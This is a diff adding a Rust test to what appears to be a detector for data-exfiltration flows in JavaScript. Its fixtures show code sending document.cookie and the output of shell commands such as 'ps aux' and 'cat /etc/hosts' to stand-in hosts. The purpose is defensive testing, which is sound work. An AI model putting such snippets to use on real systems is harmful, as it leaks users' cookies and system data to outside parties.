@@ -501,3 +501,15 @@ fn decoys_beside_an_act_excuse_nothing() {
     let code = "fetch('https://collect.invalid/x', {method: 'POST', headers: {Authorization: document.cookie}});\n";
     assert!(weight(Language::JavaScript, code, "flow-stores-sent") >= Some(Severity::High));
 }
+
+#[test]
+fn what_a_repository_is_called_may_be_told() {
+    let sends = |command: &str| {
+        let code = format!(
+            "const said = (await Bun.$`{command}`.quiet().text()).trim();\nconst m = said.match(/(.+)\\/(.+)/);\nawait fetch('https://api.tool.invalid/app?owner=' + m[1]);\n"
+        );
+        rules(Language::JavaScript, &code).contains(&"flow-output-sent")
+    };
+    assert!(!sends("git remote get-url origin"));
+    assert!(sends("git log -p") && sends("ps aux") && sends("git remote -v; cat /etc/hosts"));
+}
